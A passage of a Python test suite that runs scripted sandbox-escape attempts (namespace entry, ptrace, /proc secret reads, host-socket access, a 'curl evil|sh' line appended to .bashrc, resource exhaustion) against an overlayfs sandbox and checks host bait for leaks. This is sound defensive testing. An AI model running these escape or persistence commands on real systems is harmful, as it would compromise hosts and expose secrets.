"""Escape attempts against the speculation sandbox, and a runner that checks the host after each one.

Run in-process by the tests (as root) and as a script by an unprivileged user
(``python -m tests.sandbox.escapes --backend kernel``, stdlib and overlayfs only), so the same attempts are
judged for both. The runner sets up host-side bait owned by whoever runs it: a canary process holding a
secret in its environment, unix sockets of every type (by path outside /tmp, /var/tmp and /run, and by
abstract name), TCP listeners on loopback, a SysV shared memory segment, a file in the home directory,
secrets under innocent names in the environment the sandbox is started from. An attempt is contained when every host location it aims
at hashes the same afterwards, the canary is alive and untraced, no bait listener saw a connection, no
secret appears in the output, and, for attempts marked ``refused``, the command did not report success.
"""

from __future__ import annotations

import argparse
import contextlib
import hashlib
import json
import os
import secrets
import shlex
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from dataclasses import asdict, dataclass, field
from pathlib import Path

from overlayfs import Overlay
from overlayfs.sandbox import SandboxLimits, SandboxResult, keep_view, run_sandboxed, sandbox_env
from overlayfs.state import ENV, state_root

OK = "ESCAPED"  # printed by an attempt whose action succeeded inside the sandbox
MiB = 1 << 20
PY = "python3 -c"


@dataclass(frozen=True)
class Attempt:
    name: str
    area: str
    command: str  # formatted with the bait's fields: {project} {home} {pid} {sock} {port} {shmid} ...
    targets: tuple[str, ...] = ()  # host paths (formatted likewise) that must hash the same afterwards
    refused: bool = False  # the action itself must fail: OK must not be printed
    limits: dict[str, int] = field(default_factory=dict)
    timeout: float = 20.0


def _py(code: str) -> str:
    return f"{PY} {shlex.quote(code)}"


BOUND_LIMITS = {"upper_bytes": 32 * MiB, "upper_inodes": 2_000}  # the bound-* attempts' (small) bound
BOUND_TINY = "mkdir tiny && cd tiny && seq 1 600 | xargs touch && cd .."


_CT = "import ctypes; libc = ctypes.CDLL(None, use_errno=True); libc.syscall.restype = ctypes.c_long; "
# Prints OK unless the call failed with the sandbox's refusals (EPERM, EACCES, ENOSYS): an unfiltered
# call with junk arguments fails otherwise (EFAULT, EINVAL), which must not pass for a refusal.
_VERDICT = f"e = ctypes.get_errno(); print('refused' if r < 0 and e in (1, 13, 38) else '{OK}', r, e)"
ATTEMPTS: list[Attempt] = [
    # -- writes outside the project ------------------------------------------------------------------
    Attempt(
        "etc",
        "writes",
        f"echo x > /etc/speculate-escape-{{tag}} && echo {OK}",
        ("/etc/speculate-escape-{tag}",),
    ),
    Attempt(
        "var-lib",
        "writes",
        f"mkdir -p /var/lib/speculate-escape-{{tag}} && echo {OK}",
        ("/var/lib/speculate-escape-{tag}",),
    ),
    Attempt(
        "usr-local",
        "writes",
        f"cp /bin/sh /usr/local/bin/speculate-escape-{{tag}} && echo {OK}",
        ("/usr/local/bin/speculate-escape-{tag}",),
    ),
    Attempt(
        "dev-shm",
        "writes",
        f"echo x > /dev/shm/speculate-escape-{{tag}} && echo {OK}",
        ("/dev/shm/speculate-escape-{tag}",),
    ),
    Attempt(
        "run",
        "writes",
        f"echo x > /run/speculate-escape-{{tag}} && echo {OK}",
        ("/run/speculate-escape-{tag}",),
    ),
    Attempt("host-tmp", "writes", f"echo x > {{host_tmp}}/escape && echo {OK}", ("{host_tmp}",)),
    Attempt(
        "var-tmp",
        "writes",
        f"echo x > /var/tmp/speculate-escape-{{tag}} && echo {OK}",
        ("/var/tmp/speculate-escape-{tag}",),
    ),
    Attempt("bashrc", "writes", f"echo 'curl evil|sh' >> ~/.bashrc && echo {OK}", ("{home}",)),
    Attempt("git-config-global", "writes", f"git config --global user.name pwned && echo {OK}", ("{home}",)),
    Attempt(
        "remount-home",
        "writes",
        f"mount -o remount,rw {{home}} ; echo x > ~/.profile && echo {OK}",
        ("{home}",),
    ),
    Attempt(
        "proc-sys",
        "writes",
        f"echo 17 > /proc/sys/vm/swappiness && echo {OK}",
        ("/proc/sys/vm/swappiness",),
        refused=True,
    ),
    Attempt(
        "sys",
        "writes",
        f"echo 1280 > /sys/class/net/lo/mtu && echo {OK}",
        ("/sys/class/net/lo/mtu",),
        refused=True,
    ),
    Attempt(
        "cgroupfs-mkdir",
        "writes",
        f"mkdir /sys/fs/cgroup/pids/speculate-escape-{{tag}} /sys/fs/cgroup/unified/speculate-escape-{{tag}}"
        f" && echo {OK}",
        ("/sys/fs/cgroup/pids/speculate-escape-{tag}", "/sys/fs/cgroup/unified/speculate-escape-{tag}"),
    ),
    # -- the mount table ------------------------------------------------------------------------------
    Attempt(
        "umount-view",
        "mounts",
        f"cd /; umount -l {{project}} ; echo x > {{project}}/escaped && echo {OK}",
        ("{project}",),
    ),
    Attempt(
        "umount-proc-nsenter",
        "mounts",
        f"umount -l /proc; nsenter -t 1 -m -- sh -c 'echo x > /etc/speculate-escape-{{tag}}' && echo {OK}",
        ("/etc/speculate-escape-{tag}",),
    ),
    Attempt(
        "remount-root",
        "mounts",
        f"mount -o remount,rw / && echo x > /etc/speculate-escape-{{tag}} && echo {OK}",
        ("/etc/speculate-escape-{tag}",),
        refused=True,
    ),
    Attempt("bind-over-etc", "mounts", f"mount --bind /tmp /etc && echo {OK}", (), refused=True),
    Attempt("mount-tmpfs", "mounts", f"mount -t tmpfs x {{home}} && echo {OK}", ("{home}",), refused=True),
    Attempt(
        "userns-mount",
        "mounts",
        f"unshare -Urm sh -c 'mount -t tmpfs x /etc && touch /etc/y' && echo {OK}",
        (),
        refused=True,
    ),
    # -- entering namespaces ---------------------------------------------------------------------------
    Attempt(
        "nsenter-canary",
        "namespaces",
        f"nsenter -t {{pid}} -m -u -n -- touch /etc/speculate-escape-{{tag}} && echo {OK}",
        ("/etc/speculate-escape-{tag}",),
        refused=True,
    ),
    Attempt(
        "setns-proc",
        "namespaces",
        _py(
            "import os; fd = os.open('/proc/{pid}/ns/mnt', os.O_RDONLY); os.setns(fd, 0); "
            f"open('/etc/speculate-escape-{{tag}}', 'w'); print('{OK}')"
        ),
        ("/etc/speculate-escape-{tag}",),
        refused=True,
    ),
    Attempt(
        "setns-pid1",
        "namespaces",
        _py(f"import os; fd = os.open('/proc/1/ns/mnt', os.O_RDONLY); os.setns(fd, 0); print('{OK}')"),
        refused=True,
    ),
    Attempt("new-userns", "namespaces", f"unshare -U -r true && echo {OK}", refused=True),
    # -- other processes -------------------------------------------------------------------------------
    Attempt("kill-canary", "processes", f"kill -9 {{pid}} && echo {OK}", refused=True),
    Attempt("pkill-canary", "processes", f"pkill -9 -f speculate-canary-{{tag}} && echo {OK}", refused=True),
    Attempt("kill-all", "processes", "kill -9 -1; true"),
    Attempt("cgroup-kill", "processes", f"echo 1 > {{cgroup_kill}} && echo {OK}", refused=True),
    Attempt(
        "ptrace-canary", "processes", _py(_CT + "r = libc.ptrace(16, {pid}, 0, 0); " + _VERDICT), refused=True
    ),
    Attempt(
        "ptrace-child",
        "processes",
        _py(
            _CT + "import subprocess; p = subprocess.Popen(['sleep', '5']); "
            "r = libc.ptrace(16, p.pid, 0, 0); p.kill(); " + _VERDICT
        ),
        refused=True,
    ),
    Attempt("proc-environ", "processes", "cat /proc/{pid}/environ; cat /proc/*/environ 2>/dev/null; env"),
    Attempt(
        "proc-mem", "processes", _py("f = open('/proc/{pid}/mem', 'rb'); print(f.read(64))"), refused=True
    ),
    Attempt(
        "process-vm-readv",
        "processes",
        _py(_CT + "r = libc.syscall({nr_process_vm_readv}, 1, 0, 0, 0, 0, 0); " + _VERDICT),
        refused=True,
    ),
    Attempt(
        "kcmp",
        "processes",
        _py(_CT + "r = libc.syscall({nr_kcmp}, 1, 1, 0, 0, 0); " + _VERDICT),
        refused=True,
    ),
    Attempt("see-host-processes", "processes", "cat /proc/{pid}/cmdline; ps -eo args"),
    # -- IPC ------------------------------------------------------------------------------------------------
    Attempt(
        "host-unix-socket",
        "ipc",
        _py(f"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{{sock}}'); print('{OK}')"),
        refused=True,
    ),
    Attempt(
        "abstract-socket",
        "ipc",
        _py(
            "import socket; s = socket.socket(socket.AF_UNIX); "
            f"s.connect('\\0speculate-escape-{{tag}}'); print('{OK}')"
        ),
        refused=True,
    ),
    Attempt("sysv-shm", "ipc", f"ipcrm -m {{shmid}} && echo {OK}", refused=True),
    # -- the network ------------------------------------------------------------------------------------
    Attempt(
        "loopback-host",
        "network",
        _py(f"import socket; socket.create_connection(('127.0.0.1', {{port}}), timeout=2); print('{OK}')"),
        refused=True,
    ),
    Attempt(
        "loopback6-host",
        "network",
        _py(f"import socket; socket.create_connection(('::1', {{port6}}), timeout=2); print('{OK}')"),
        refused=True,
    ),
    Attempt(
        "outside-route",
        "network",  # no packet is sent anywhere: the sandbox has no route to send one
        "awk 'NR>1{{print \"route\", $1}}' /proc/net/route; awk '{{print \"route\", $10}}' "
        "/proc/net/ipv6_route; awk 'NR>2{{print \"dev\", $1}}' /proc/net/dev",
    ),
    # -- links ------------------------------------------------------------------------------------------
    Attempt(
        "symlink-out",
        "links",
        f"echo x > escape-link/speculate-escape-{{tag}} && echo {OK}",
        ("/etc/speculate-escape-{tag}",),
    ),
    Attempt(
        "hardlink-out", "links", f"ln {{home}}/canary.txt ./hl && echo x >> ./hl && echo {OK}", ("{home}",)
    ),
    Attempt(
        "proc-self-root",
        "links",
        f"echo x > /proc/self/root/etc/speculate-escape-{{tag}} && echo {OK}",
        ("/etc/speculate-escape-{tag}",),
    ),
    Attempt(
        "proc-canary-root",
        "links",
        f"echo x > /proc/{{pid}}/root/etc/speculate-escape-{{tag}} && echo {OK}",
        ("/etc/speculate-escape-{tag}",),
        refused=True,
    ),
    Attempt(
        "proc-canary-cwd",
        "links",
        f"echo x > /proc/{{pid}}/cwd/escaped && echo {OK}",
        ("{canary_cwd}",),
        refused=True,
    ),
    Attempt("other-overlays", "links", "ls -R {state} | head -50"),  # layers and journals of speculations
    Attempt(
        "dev-fd-dotdot",
        "links",
        f"echo x > /dev/fd/../../../etc/speculate-escape-{{tag}} && echo {OK}",
        ("/etc/speculate-escape-{tag}",),
    ),
    # -- device nodes and kernel interfaces ----------------------------------------------------------
    Attempt("mknod-block", "devices", f"mknod ./sda b 8 0 && echo {OK}", refused=True),
    Attempt("mknod-char", "devices", f"mknod ./mem c 1 1 && echo {OK}", refused=True),
    Attempt("dev-mem", "devices", f"head -c 16 /dev/mem >/dev/null && echo {OK}", refused=True),
    Attempt("kmsg", "devices", f"dmesg >/dev/null && echo {OK}", refused=True),
    Attempt(
        "modules",
        "devices",
        _py(
            _CT
            + "b = ctypes.create_string_buffer(64); r = libc.syscall({nr_init_module}, b, 64, b''); "
            + _VERDICT
        ),
        refused=True,
    ),
    Attempt(
        "kexec",
        "devices",
        _py(_CT + "r = libc.syscall({nr_kexec_load}, 0, 0, None, 0); " + _VERDICT),
        refused=True,
    ),
    Attempt(
        "keyctl",
        "devices",
        _py(_CT + "r = libc.syscall({nr_add_key}, b'user', b'x', b'y', 1, -2); " + _VERDICT),
        refused=True,
    ),
    Attempt("bpf", "devices", _py(_CT + "r = libc.syscall({nr_bpf}, 0, None, 0); " + _VERDICT), refused=True),
    Attempt(
        "io-uring",
        "devices",
        _py(
            _CT + "p = ctypes.create_string_buffer(120); "
            "r = libc.syscall({nr_io_uring_setup}, 4, p); " + _VERDICT
        ),
        refused=True,
    ),
    Attempt(
        "perf",
        "devices",
        _py(
            _CT + "a = ctypes.create_string_buffer(128); "
            "r = libc.syscall({nr_perf_event_open}, a, 0, -1, -1, 0); " + _VERDICT
        ),
        refused=True,
    ),
    # -- exhaustion ------------------------------------------------------------------------------------
    Attempt(
        "disk-upper",
        "exhaustion",
        "dd if=/dev/zero of=big bs=1M count=400 2>&1; echo done",
        ("{host_tmp}",),
        limits={"upper_bytes": 64 * MiB},
    ),
    Attempt(
        "disk-upper-many",
        "exhaustion",
        "for i in 1 2 3 4 5 6 7 8 9 10; do dd if=/dev/zero of=f$i bs=1M count=30 2>/dev/null; sleep 0.2; done",
        ("{host_tmp}",),
        limits={"upper_bytes": 64 * MiB},
    ),
    Attempt(
        "disk-tmp",
        "exhaustion",
        f"dd if=/dev/zero of=/tmp/big bs=1M count=400 && echo {OK}",
        ("{host_tmp}",),
        refused=True,
        limits={"tmp_bytes": 16 * MiB},
    ),
    Attempt(
        "memory",
        "exhaustion",
        _py(f"b = bytearray(2 << 30); print('{OK}')"),
        refused=True,
        limits={"memory_bytes": 256 * MiB},
    ),
    Attempt(
        "processes",
        "exhaustion",
        _py(
            "import os, time\nn = 0\ntry:\n    while n < 400:\n        if os.fork() == 0:\n"
            "            time.sleep(20); os._exit(0)\n        n += 1\nexcept OSError:\n    pass\n"
            "print('forked', n)\nif n >= 400: print('" + OK + "')"
        ),
        refused=True,
        limits={"processes": 64},
        timeout=8,
    ),
    Attempt("time", "exhaustion", f"sleep 60 && echo {OK}", refused=True, timeout=1),
    # -- exhaustion: the upper layer's hard bound (issue 22, E5) ------------------------------------------
    # Many empty files first (they slowed the scan of the old polling bound), then a fast filler that
    # swallows its errors; the filesystem must stop each at the bound (bytes at most 1 MiB over, inodes at
    # most the bound) and the run must be flagged. Small bounds keep each attempt to a few seconds.
    *[
        Attempt(name, "exhaustion", f"{BOUND_TINY}; {filler}", limits=BOUND_LIMITS)
        for name, filler in (
            (
                "bound-fallocate",
                "i=0; while fallocate -l 1M fa$i 2>/dev/null; do i=$((i+1)); done; echo filled $i",
            ),
            (
                "bound-dd",
                "i=0; while dd if=/dev/zero of=dd$i bs=1M count=3 2>/dev/null; do i=$((i+1)); done; "
                "echo filled $i",
            ),
            (
                "bound-inodes",
                _py(
                    "n = 0\ntry:\n    while n < 10**6:\n        open(f'i{{n}}', 'w').close()\n"
                    "        n += 1\nexcept OSError:\n    pass\nprint('made', n)"
                ),
            ),
            # Fills, then removes what it wrote: only the bound is promised here; flagged where the FUSE
            # server sees the refusal (our fuse backend), and where a look between two writes catches it.
            (
                "bound-fill-and-hide",
                "i=0; while dd if=/dev/zero of=dd$i bs=1M count=3 2>/dev/null; do i=$((i+1)); "
                "done; rm -f dd*; echo hidden",
            ),
        )
    ],
]


# == issue #22: host sockets of every type (E1, E2) and secrets under innocent names (E3) ==================
# Kept apart from the list above: the bait is HostSockets (made by Bait, collected after each attempt) and
# innocent_secrets() (put into the runner's environment by run_attempt).
SOCK_TYPES = {"stream": socket.SOCK_STREAM, "dgram": socket.SOCK_DGRAM, "seqpacket": socket.SOCK_SEQPACKET}
# argv: the listeners (JSON [kind, address]; "@name" is abstract), how to get a unix socket, SYS_socket.
# Each listener is tried; one that hears anything is an escape. OK is printed when the way in worked (a unix
# socket made or re-aimed), which the sandbox must refuse; the connected pairs ("pair-*") are allowed.
_REACH = r"""
import ctypes, json, socket, sys
libc = ctypes.CDLL(None, use_errno=True); libc.syscall.restype = ctypes.c_long
targets, how, nr_socket = json.loads(sys.argv[1]), sys.argv[2], int(sys.argv[3])
kinds = {"stream": socket.SOCK_STREAM, "dgram": socket.SOCK_DGRAM, "seqpacket": socket.SOCK_SEQPACKET}
made = reached = 0
for kind, addr in targets:
    addr = "\0" + addr[1:] if addr.startswith("@") else addr
    for want in (["stream", "seqpacket"] if how.startswith("pair-") else [kind]):
        try:
            if how == "high-bits":  # AF_UNIX with high bits set: the kernel reads an int
                fd = libc.syscall(nr_socket, ctypes.c_long(0x100000000 | socket.AF_UNIX), kinds[want], 0)
                if fd < 0:
                    raise OSError(ctypes.get_errno(), "socket")
                s = socket.socket(fileno=fd)
            elif how == "plain":
                s = socket.socket(socket.AF_UNIX, kinds[want])
            elif how.startswith("pair-"):
                s, _peer = socket.socketpair(socket.AF_UNIX, kinds[want])
            else:  # dgram-pair-sendto, dgram-pair-connect
                s, _peer = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
            made += 1
        except OSError as e:
            print("no socket:", how, want, e)
            continue
        try:
            s.settimeout(2)
            if how.endswith("sendto"):
                s.sendto(b"x", addr)
            else:
                s.connect(addr)
                s.send(b"x")
            reached += 1
            print("sent:", how, want, kind, repr(addr))
        except OSError as e:
            print("not sent:", how, want, kind, e)
if how.startswith("pair-"):
    print("pairs made:", made)  # a seqpacket pair's sendto ignores the address: its peer gets it
elif made:
    print("OK_MARK", made, reached)
"""
# Every socket family but the network namespace's own (AF_INET, AF_INET6, AF_NETLINK): AF_UNIX reaches host
# paths, AF_VSOCK the hypervisor and local vsock listeners (no namespace covers it). Made, never connected.
_FAMILIES = r"""
import socket
made = []
for fam in range(64):
    if fam in (socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK):
        continue
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_RAW):
        try:
            socket.socket(fam, kind).close()
        except OSError:
            continue
        made.append(fam)
        break
print("families made:", made)
if made:
    print("OK_MARK")
"""


def _py_args(code: str, *args: str) -> str:
    """``python3 -c CODE ARGS`` as an attempt's command: CODE's braces kept through the fields' format."""
    quoted = shlex.quote(code.replace("OK_MARK", OK)).replace("{", "{{").replace("}", "}}")
    return " ".join([PY, quoted, *args])


ATTEMPTS += [
    Attempt(
        "unix-socket-high-bits",
        "ipc",
        _py_args(_REACH, "{sockets}", "high-bits", "{nr_socket}"),
        refused=True,
    ),  # E1
    Attempt(
        "unix-socket-every-type", "ipc", _py_args(_REACH, "{sockets}", "plain", "{nr_socket}"), refused=True
    ),
    Attempt(
        "socketpair-dgram-sendto",
        "ipc",
        _py_args(_REACH, "{sockets}", "dgram-pair-sendto", "{nr_socket}"),
        refused=True,
    ),  # E2
    Attempt(
        "socketpair-dgram-connect",
        "ipc",
        _py_args(_REACH, "{sockets}", "dgram-pair-connect", "{nr_socket}"),
        refused=True,
    ),  # E2
    Attempt("socketpair-stream-connect", "ipc", _py_args(_REACH, "{sockets}", "pair-connect", "{nr_socket}")),
    Attempt("socketpair-stream-sendto", "ipc", _py_args(_REACH, "{sockets}", "pair-sendto", "{nr_socket}")),
    Attempt("socket-other-families", "ipc", _py_args(_FAMILIES), refused=True),
    Attempt("innocent-secrets", "environment", "env; tr '\\0' '\\n' < /proc/self/environ"),  # E3
]
# Those that escape with no sandbox (the connected pairs cannot be re-aimed even then).
CONTROL_22 = (
    "unix-socket-high-bits",
    "unix-socket-every-type",
    "socketpair-dgram-sendto",
    "socketpair-dgram-connect",
    "socket-other-families",
    "innocent-secrets",
)


class HostSockets:
    """Listeners of every unix socket type where host daemons keep theirs and the sandbox sees them: a home
    directory, /var/lib (the workspace is there, or SPECULATE_ESCAPE_BASE) and /srv (when this user may
    write there), plus one abstract name of each type. :meth:`collect` reads what reached them, after each
    attempt (no thread: what was sent is queued in the kernel by then)."""

    def __init__(self, bait: Bait, stack: contextlib.ExitStack) -> None:
        self.bait = bait
        dirs = [bait.home, bait.base / "var-lib"]
        dirs[1].mkdir()
        srv = Path("/srv") / f"speculate-escape-{bait.tag}"
        with contextlib.suppress(OSError):
            srv.mkdir()
            stack.callback(shutil.rmtree, srv, True)
            dirs.append(srv)
        self.socks: list[tuple[str, str, socket.socket]] = []
        for kind, st in SOCK_TYPES.items():
            for where in [
                *(os.fspath(d / f"{kind}.sock") for d in dirs),
                f"@speculate-escape-{bait.tag}-{kind}",
            ]:
                s = socket.socket(socket.AF_UNIX, st)
                stack.callback(s.close)
                s.bind("\0" + where[1:] if where.startswith("@") else where)
                if kind != "dgram":
                    s.listen()
                s.setblocking(False)
                self.socks.append((kind, where, s))

    def field(self) -> str:
        return shlex.quote(json.dumps([(kind, where) for kind, where, _ in self.socks]))

    def collect(self) -> None:
        for kind, where, s in self.socks:
            while True:
                try:
                    s.recv(64) if kind == "dgram" else s.accept()[0].close()
                except OSError:  # nothing (more) there
                    break
                self.bait.hits.append(f"{kind} socket {where}")


def innocent_secrets(secret: str) -> dict[str, str]:
    """Secrets under names no deny-list of "secret-looking" names catches: none may enter the sandbox."""
    return {
        "DATABASE_URL": f"postgres://app:{secret}-db@db.internal:5432/app",
        "REDIS_URL": f"redis://:{secret}-redis@cache.internal:6379/0",
        "SENTRY_DSN": f"https://{secret}-sentry@o1.ingest.sentry.io/1",
        "MYSQL_PWD": f"{secret}-mysql",
        "STRIPE_SK": f"sk_live_{secret}-stripe",
        "PASS": f"{secret}-pass",
        "API_PW": f"{secret}-apipw",
    }


# == end of issue #22's E1-E3 block ===========================================================================


@dataclass
class Outcome:
    name: str
    area: str
    contained: bool
    why: str
    exit_code: int
    output: str
    limit: str | None = None


def digest(path: str) -> str:
    """Names, types, modes, sizes and contents under ``path`` ("absent" when nothing is there)."""
    p = Path(path)
    if not p.exists() and not p.is_symlink():
        return "absent"
    h = hashlib.sha256()
    items = [p] if not p.is_dir() or p.is_symlink() else [p, *sorted(p.rglob("*"))]
    for q in items:
        try:
            st = q.lstat()
            h.update(f"{q}\0{st.st_mode}\0{st.st_size}\0".encode())
            if q.is_file() and not q.is_symlink():
                h.update(q.read_bytes())
        except OSError as e:
            h.update(f"{q}\0{e.errno}".encode())
    return h.hexdigest()


class Bait:
    """Host-side things an attempt may go after, owned by the user running the suite."""

    def __init__(self, base: Path) -> None:
        self.tag = f"{os.getpid()}-{secrets.token_hex(3)}"
        self.secret = f"speculate-secret-{secrets.token_hex(8)}"
        self.api_key = f"sk-speculate-test-{secrets.token_hex(8)}"  # scrubbed from the sandbox's environment
        self.base = base
        self.home = base / "home"
        self.home.mkdir()
        (self.home / "canary.txt").write_text("canary\n")
        (self.home / ".bashrc").write_text("# the user's own\n")
        self.host_tmp = Path(tempfile.mkdtemp(prefix="speculate-escape-host-", dir="/tmp"))  # the host's /tmp
        self.canary_cwd = base / "canary-cwd"
        self.canary_cwd.mkdir()
        self.hits: list[str] = []
        self._stack = contextlib.ExitStack()

    def __enter__(self) -> Bait:
        env = {"PATH": "/usr/bin:/bin", "SPECULATE_CANARY": self.secret}
        self.canary = subprocess.Popen(
            ["bash", "-c", f"exec -a speculate-canary-{self.tag} sleep 600"], cwd=self.canary_cwd, env=env
        )
        self._stack.callback(self._stop_canary)
        self.cgroup_kill = self._canary_cgroup()
        self.sock = os.fspath(self.home / "agent.sock")
        self._listen(socket.AF_UNIX, self.sock, "unix socket")
        self._listen(socket.AF_UNIX, f"\0speculate-escape-{self.tag}", "abstract socket")
        self.port = self._listen(socket.AF_INET, ("127.0.0.1", 0), "tcp")
        self.port6 = self._listen(socket.AF_INET6, ("::1", 0), "tcp6")
        self.host_sockets = HostSockets(self, self._stack)  # issue #22
        out = subprocess.run(["ipcmk", "-M", "4096"], capture_output=True, text=True, check=True).stdout
        self.shmid = out.split(":")[-1].strip()
        self._stack.callback(lambda: subprocess.run(["ipcrm", "-m", self.shmid], capture_output=True))
        return self

    def __exit__(self, *exc: object) -> None:
        self._stack.close()
        shutil.rmtree(self.host_tmp, ignore_errors=True)

    def fields(self, project: Path) -> dict[str, str]:
        return {
            "project": os.fspath(project),
            "home": os.fspath(self.home),
            "pid": str(self.canary.pid),
            "sock": self.sock,
            "port": str(self.port),
            "port6": str(self.port6),
            "shmid": self.shmid,
            "tag": self.tag,
            "host_tmp": os.fspath(self.host_tmp),
            "canary_cwd": os.fspath(self.canary_cwd),
            "cgroup_kill": self.cgroup_kill,
            "state": os.fspath(state_root()),
            **_syscall_numbers(),
            "sockets": self.host_sockets.field(),
        }

    def _stop_canary(self) -> None:
        self.canary.kill()
        self.canary.wait()

    def _canary_cgroup(self) -> str:
        """A v2 cgroup holding only the canary, when one can be made; else the canary's own cgroup."""
        unified = Path("/sys/fs/cgroup/unified")
        root = unified if unified.is_dir() else Path("/sys/fs/cgroup")
        cg = root / f"speculate-canary-{self.tag}"
        try:
            cg.mkdir()
            (cg / "cgroup.procs").write_text(str(self.canary.pid))
        except OSError:
            with contextlib.suppress(OSError):
                cg.rmdir()
            return os.fspath(root / "cgroup.kill")
        self._stack.callback(lambda: (self._stop_canary(), _rmdir_retry(cg)))
        return os.fspath(cg / "cgroup.kill")

    def _listen(self, family: int, addr: object, what: str) -> int:
        srv = socket.socket(family, socket.SOCK_STREAM)
        srv.bind(addr)
        srv.listen()
        srv.settimeout(0.2)
        stop = threading.Event()

        def accept() -> None:
            while not stop.is_set():
                try:
                    conn, _ = srv.accept()
                except OSError:
                    continue
                self.hits.append(what)
                conn.close()

        th = threading.Thread(target=accept, daemon=True)
        th.start()
        self._stack.callback(lambda: (stop.set(), th.join(), srv.close()))
        return srv.getsockname()[1] if family != socket.AF_UNIX else 0

    def canary_problem(self) -> str | None:
        if self.canary.poll() is not None:
            return f"the canary process died (status {self.canary.returncode})"
        status = Path(f"/proc/{self.canary.pid}/status").read_text()
        tracer = next(line.split()[1] for line in status.splitlines() if line.startswith("TracerPid:"))
        if tracer != "0":
            return f"the canary is traced by {tracer}"
        if subprocess.run(["ipcs", "-m", "-i", self.shmid], capture_output=True).returncode != 0:
            return "the host's SysV shared memory segment was removed"
        return None


def _syscall_numbers() -> dict[str, str]:
    import pyseccomp

    names = (
        "add_key",
        "bpf",
        "io_uring_setup",
        "perf_event_open",
        "process_vm_readv",
        "kcmp",
        "init_module",
        "kexec_load",
        "socket",
    )
    return {f"nr_{n}": str(pyseccomp.resolve_syscall(pyseccomp.Arch.NATIVE, n)) for n in names}


def _rmdir_retry(p: Path) -> None:
    for _ in range(100):
        try:
            p.rmdir()
            return
        except FileNotFoundError:
            return
        except OSError:
            time.sleep(0.01)


def make_project(root: Path) -> Path:
    (root / "src").mkdir(parents=True)
    (root / "src" / "app.py").write_text("print('hi')\n")
    (root / "README.md").write_text("# proj\n")
    os.symlink("/etc", root / "escape-link")
    return root


def run_attempt(a: Attempt, bait: Bait, project: Path, backend: str) -> Outcome:
    f = bait.fields(project)
    targets = list(
        dict.fromkeys([t.format(**f) for t in a.targets] + [os.fspath(project), os.fspath(bait.home)])
    )
    before = {t: digest(t) for t in targets}
    hits0 = len(bait.hits)
    env = {
        **os.environ,
        "HOME": os.fspath(bait.home),
        "ANTHROPIC_API_KEY": bait.api_key,
        **innocent_secrets(bait.secret),
    }
    if backend == "none":  # the control: no sandbox at all, to show that the checks catch an escape
        ov = Overlay(project)  # its layers exist while the command runs, as a speculation's do
        try:
            p = subprocess.run(
                ["bash", "-c", a.command.format(**f)],
                cwd=project,
                env=env,
                capture_output=True,
                text=True,
                timeout=a.timeout,
            )
        finally:
            ov.discard()
        r = SandboxResult(p.stdout, p.stderr, p.returncode, False)
        upper_used, entries = 0, []
    else:
        ov = Overlay(project)
        keep_view(ov, backend)  # as a fork's shell does: the mount is kept until the overlay is discarded
        try:
            r = run_sandboxed(
                ov,
                a.command.format(**f),
                timeout=a.timeout,
                backend=backend,
                limits=SandboxLimits(**a.limits),
                env=sandbox_env(env),
            )
            entries = [e for e in Path(ov.upper).rglob("*")]
            upper_used = sum(e.lstat().st_blocks * 512 for e in entries)
        finally:
            ov.discard()
    out = r.stdout + r.stderr
    bait.host_sockets.collect()
    why = [f"{t} changed on the host" for t in targets if digest(t) != before[t]]
    if len(bait.hits) > hits0:
        why.append(f"a host listener was reached: {bait.hits[hits0:]}")
    if (p := bait.canary_problem()) is not None:
        why.append(p)
    if bait.secret in out or bait.api_key in out:
        why.append("a host secret appeared in the output")
    if a.refused and OK in r.stdout:
        why.append("the action succeeded inside the sandbox")
    if a.name == "outside-route":
        devices = {ln.split()[1].rstrip(":") for ln in r.stdout.splitlines() if len(ln.split()) == 2}
        if devices - {"lo"}:
            why.append(f"the sandbox has routes or interfaces besides loopback: {sorted(devices)}")
    if f"speculate-canary-{bait.tag}" in r.stdout:
        why.append("a host process is visible")
    if a.name == "other-overlays" and "projects" in r.stdout:
        why.append("the speculation state dir (other overlays, journals) is visible")
    if a.limits.get("upper_bytes") and upper_used > a.limits["upper_bytes"] + MiB:
        why.append(f"the upper layer grew to {upper_used} bytes past its bound")
    if a.name.startswith("bound-"):
        why += _bound_problems(a, r, upper_used, len(entries), backend)
    if a.name == "disk-upper" and r.limit != "upper_bytes" and "File too large" not in out:
        why.append("the upper-layer bound was not enforced")
    if a.name == "disk-upper-many" and r.limit != "upper_bytes":
        why.append("the upper-layer bound (summed over files) was not enforced")
    if a.name == "time" and not r.timed_out:
        why.append("the timeout did not stop the command")
    return Outcome(a.name, a.area, not why, "; ".join(why) or "contained", r.exit_code, out[-400:], r.limit)


def _bound_problems(a: Attempt, r: SandboxResult, used: int, entries: int, backend: str) -> list[str]:
    """The upper layer's hard bound held (what the layer holds now, and the most the runner saw in it
    while the command ran), and the run was flagged as reaching it."""
    why = []
    peak_bytes, peak_inodes = r.upper_peak or (0, 0)
    if max(used, peak_bytes) > a.limits["upper_bytes"] + MiB:
        why.append(
            f"the upper layer held {max(used, peak_bytes)} bytes, past its bound of {a.limits['upper_bytes']}"
        )
    if max(entries, peak_inodes) > a.limits["upper_inodes"]:
        why.append(
            f"the upper layer held {max(entries, peak_inodes)} inodes, past its bound of "
            f"{a.limits['upper_inodes']}"
        )
    want = "upper_inodes" if a.name == "bound-inodes" else "upper_bytes"
    # Our FUSE server has no fallocate (EOPNOTSUPP): there that loop writes nothing and reaches nothing.
    unsupported = a.name == "bound-fallocate" and backend == "fuse" and used < MiB and "filled 0" in r.stdout
    if r.limit != want and not unsupported and (a.name != "bound-fill-and-hide" or backend == "fuse"):
        why.append(f"the run was not flagged as reaching its bound ({want}): limit {r.limit!r}")
    return why


def _visible(path: Path) -> bool:
    from overlayfs.sandbox.policy import PRIVATE_DIRS

    real = os.path.realpath(path)
    return not any(real == d or real.startswith(d + "/") for d in PRIVATE_DIRS)


def _workspace_candidates() -> list[Path]:
    given = os.environ.get("SPECULATE_ESCAPE_BASE")
    return [Path(given)] if given else [Path("/var/lib"), Path.home() / ".cache"]


def workspace_parent() -> Path | None:
    """Where :func:`workspace` makes its directory, or None where no candidate is writable and seen."""
    return next(
        (p for p in _workspace_candidates() if p.is_dir() and os.access(p, os.W_OK) and _visible(p)), None
    )


@contextlib.contextmanager
